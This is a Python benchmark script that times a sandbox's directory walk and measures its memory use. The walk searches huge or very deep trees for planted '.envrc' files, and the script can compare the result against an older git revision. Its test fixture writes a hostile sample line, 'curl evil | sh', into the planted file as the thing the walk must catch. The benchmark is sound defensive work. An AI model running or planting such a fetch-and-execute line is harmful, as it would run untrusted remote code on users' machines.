"""What the box's walk below the top of a step's folder costs on a large tree, and the
memory it holds, against the walk of another tree (``--against``, a git ref) in the
same run.

A person gains a walk that no mass of files hides a plant from: a command that makes
millions of entries is walked to its end, the plants among them moved aside, and the
next call still runs (a walk that stopped at a bound let them stay, and refused every
later call). They pay in time on a large tree (each boxed call walks twice), and the
memory must not grow with the tree. Measured per tree size, one process per walk (its
peak resident memory, ``ru_maxrss``, less that of the same process before the walk):

- a tree of folders of ten files each, plus one folder of a tenth of the entries (a
  wide one, as a command's mass is), and one ``.envrc`` planted last;
- a chain 1,800 levels deep with 40 folders a level (``--chain``; a path of some 3,600
  bytes at the bottom: a walk that opens each folder by its path pays for every level
  above it), one ``.envrc`` at the bottom;
- the walk as ``box_setup.py`` runs it (``box_walk.below``, the box's lists).

    .venv/bin/python benchmarks/bench_walk_mass.py [--sizes 100000,400000,1000000]
        [--against REF] [--runs N]
"""

from __future__ import annotations

import argparse
import json
import os
import statistics
import subprocess
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parents[1]
BOX = HERE / "src/maker/tools/box"
PROBE = """
import json, os, resource, sys, time
code = {}
for source in sys.argv[1].split(":"):  # (as box_setup.py reads them: box_sites.py first)
    exec(compile(open(source).read(), source, "exec"), code)
lists = json.loads(sys.argv[3])
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
started = time.perf_counter()
walk = code["below"](sys.argv[2], lists)
took = time.perf_counter() - started
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"s": took, "kib": peak - before, "finished": walk.finished,
                  "found": len(walk.found)}))
"""


def _tree(root: Path, entries: int) -> None:
    wide = root / "wide"
    wide.mkdir(parents=True)
    for n in range(entries // 10):
        (wide / f"w{n}").touch()
    for n in range((entries - entries // 10) // 11):
        folder = root / f"d{n // 100}" / f"{n}"
        folder.mkdir(parents=True, exist_ok=True)
        for m in range(10):
            (folder / f"f{m}").touch()
    (folder / ".envrc").write_text("curl evil | sh\n")  # (the last folder made)


def _chain(root: Path, levels: int, width: int) -> None:
    root.mkdir(parents=True)
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(levels):
        for n in range(width):
            os.mkdir(str(n), dir_fd=fd)
        inner = os.open("0", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(os.open(".envrc", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    os.close(fd)


def _walk(sources: list[Path], top: Path, lists: dict[str, list[str]]) -> dict[str, object]:
    done = subprocess.run([sys.executable, "-I", "-S", "-c", PROBE,
                           ":".join(str(s) for s in sources), str(top),
                           json.dumps(lists)], capture_output=True, text=True, check=True)
    result: dict[str, object] = json.loads(done.stdout)
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sizes", default="100000,400000,1000000")
    parser.add_argument("--against", help="the walk of another tree (a git ref)")
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--chain", type=int, default=1800, help="levels (0: none)")
    args = parser.parse_args()
    sys.path.insert(0, str(HERE / "src"))
    from maker.tools.box.runs_later import anywhere

    work = Path(tempfile.mkdtemp(prefix="maker-walk-"))
    walks = {"this tree": [BOX / "box_sites.py", BOX / "box_walk.py"]}
    if args.against:
        walks[args.against] = []
        for name in ("box_sites.py", "box_walk.py"):  # (box_sites.py: none before 716707b)
            shown = subprocess.run(["git", "-C", str(HERE), "show",
                                    f"{args.against}:src/maker/tools/box/{name}"],
                                   capture_output=True, check=False)
            if shown.returncode == 0:
                (work / f"against_{name}").write_bytes(shown.stdout)
                walks[args.against].append(work / f"against_{name}")
    print(f"{os.cpu_count()} cores; best of {args.runs} walks per tree and walk, "
          "interleaved; memory: the walk's own peak resident growth")
    try:
        trees = [(f"{int(s):>9,} entries", int(s)) for s in args.sizes.split(",")]
        for label, size in trees + ([(f"chain of {args.chain:,}", -1)] if args.chain else []):
            top = work / f"t{size}"
            _tree(top, size) if size > 0 else _chain(top, args.chain, 40)
            lists = {"deeper": list(anywhere()), "rw": [str(top)], "temp": [],
                     "laterskip": [], "since": ["0"]}
            results: dict[str, list[dict[str, object]]] = {name: [] for name in walks}
            for _ in range(args.runs):
                for name, source in walks.items():
                    results[name].append(_walk(source, top, lists))
            for name, rows in results.items():
                best = min(float(str(r["s"])) for r in rows)
                kib = statistics.median(int(str(r["kib"])) for r in rows)
                last = rows[-1]
                print(f"{label}  {name:<12} {best * 1000:8.0f} ms  "
                      f"{kib / 1024:7.1f} MiB  finished={last['finished']} "
                      f"found={last['found']}")
            subprocess.run(["rm", "-rf", str(top)], check=True)  # (a chain: too deep for rmtree)
    finally:
        subprocess.run(["rm", "-rf", str(work)], check=False)


if __name__ == "__main__":
    main()
